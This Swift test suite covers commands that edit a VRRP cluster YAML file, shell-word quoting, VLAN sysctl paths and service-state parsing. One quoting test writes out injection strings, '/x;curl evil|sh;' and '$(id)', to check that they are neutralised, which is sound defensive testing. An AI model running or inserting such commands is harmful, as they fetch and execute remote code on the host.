// The commands that change a line of the cluster file, carried out on files of every style: what comes out is a good file that
// has the new value, or the command leaves it to an editor.

import ClusterConfiguration
import FoundationEssentials
import Glibc
import Testing

@testable import Diagnosis

@Suite("Commands that change the cluster file")
struct ClusterFileTextTests {
  struct Row: Sendable, CustomTestStringConvertible {
    var testDescription: String
    /// What follows `virtual_routers:`.
    var routers: String
    var key = "interval"
    var value = "2s"
    var isForAnEditor = false
  }

  @Test(arguments: [
    Row(
      testDescription: "a key that is there",
      routers: "  - name: a\n    vrid: 12\n    interval: 1s   # slow\n    addresses: [10.0.10.39/24]\n"),
    Row(testDescription: "a key that is not", routers: "  - name: a\n    vrid: 12\n    addresses: [10.0.10.39/24]\n"),
    Row(testDescription: "the VRID first", routers: "  - vrid: 12\n    name: a\n    addresses: [10.0.10.39/24]\n"),
    Row(
      testDescription: "addresses as a block before it",
      routers: "  - name: a\n    addresses:\n      - 10.0.10.39/24\n    vrid: 12\n    interval: 1s\n"),
    Row(
      testDescription: "a list as deep as the keys",
      routers: "- name: a\n  addresses:\n  - 10.0.10.39/24\n  vrid: 12\n  interval: 1s\n"),
    Row(
      testDescription: "two of them, and the second is meant",
      routers:
        "  - name: b\n    vrid: 11\n    interval: 5s\n    addresses: [10.0.10.38/24]\n  - name: a\n    vrid: 12\n    addresses: [10.0.10.39/24]\n"
    ),
    Row(testDescription: "in braces", routers: "  - {name: a, vrid: 12, addresses: [10.0.10.39/24], interval: 1s}\n"),
    Row(testDescription: "in braces, without it", routers: "  - {name: a, vrid: 12, addresses: [10.0.10.39/24]}\n"),
    Row(
      testDescription: "two in one line",
      routers: "  [{name: b, vrid: 11, addresses: [10.0.10.38/24]}, {name: a, vrid: 12, addresses: [10.0.10.39/24]}]\n",
      isForAnEditor: true),
    Row(
      testDescription: "a list in brackets",
      routers: "  - name: a\n    vrid: 12\n    addresses: [10.0.10.38/24, 10.0.10.40/24]\n",
      key: "addresses", value: "[10.0.10.39/24]"),
    Row(
      testDescription: "a list that goes on",
      routers: "  - name: a\n    vrid: 12\n    addresses: [10.0.10.38/24,\n      10.0.10.40/24]\n",
      key: "addresses", value: "[10.0.10.39/24]", isForAnEditor: true),
    Row(
      testDescription: "a list of mappings",
      routers: "  - name: a\n    vrid: 12\n    addresses: [{address: 10.0.10.38/24, interface: eth1}]\n",
      key: "addresses",
      value: "[10.0.10.39/24]", isForAnEditor: true),
  ])
  func change(_ row: Row) throws {
    let text =
      "cluster: c\nnodes: [{name: n1, address: 10.0.10.31}, {name: n2, address: 10.0.10.32}]\nvirtual_routers:\n\(row.routers)"
    let directory = "/tmp/vipd edit \(getpid()) \(row.testDescription.hashValue.magnitude)"
    try FileManager.default.createDirectory(atPath: directory, withIntermediateDirectories: true)
    defer { try? FileManager.default.removeItem(atPath: directory) }
    let path = "\(directory)/vipd's.yaml"
    try text.write(toFile: path, atomically: false, encoding: .utf8)
    #expect(ClusterFile.parse(text: text, fileName: "c").configuration != nil, "\(text)")

    let command = ClusterFileText(path: path, text: text, digest: "").command(
      setting: row.key, to: row.value, ofVRID: 12)
    #expect(command.hasPrefix("${EDITOR") == row.isForAnEditor, "\(command)")
    guard !row.isForAnEditor else { return }
    #expect(system(command) == 0, "\(command)")
    let changed = try String(contentsOfFile: path, encoding: .utf8)
    let outcome = ClusterFile.parse(text: changed, fileName: "c")
    let router = try #require(outcome.configuration?.virtualRouters.first { $0.vrid.rawValue == 12 }, "\(changed)")
    if row.key == "interval" {
      #expect(router.interval.description == row.value)
    } else {
      #expect(router.addresses.map(\.address.description) == ["10.0.10.39/24"])
    }
  }

  @Test("A name from a file, or from another host, is one word to the shell")
  func words() {
    #expect("/etc/vipd/vipd.yaml".shellWord == "/etc/vipd/vipd.yaml")
    #expect("a b".shellWord == "'a b'" && "it's".shellWord == "'it'\\''s'" && "".shellWord == "''")
    #expect("/x;curl evil|sh;".shellWord == "'/x;curl evil|sh;'" && "$(id)".shellWord == "'$(id)'")
  }

  @Test("A VLAN's settings are where sysctl looks for them, and what a service manager says is understood")
  func paths() {
    #expect(KernelSettings.path(of: "ipv4.conf.eth0/100.rp_filter") == "ipv4/conf/eth0.100/rp_filter")
    #expect(ServiceState.findings(in: "ActiveState=failed\nUnitFileState=enabled\n").map(\.severity) == [.error])
    #expect(ServiceState.findings(in: "ActiveState=inactive\nUnitFileState=enabled\n").map(\.severity) == [.warning])
    #expect(ServiceState.findings(in: "ActiveState=active\nUnitFileState=enabled\n").isEmpty)
    #expect(ServiceState.findings(in: "ActiveState=inactive\nUnitFileState=\n").isEmpty)
  }
}
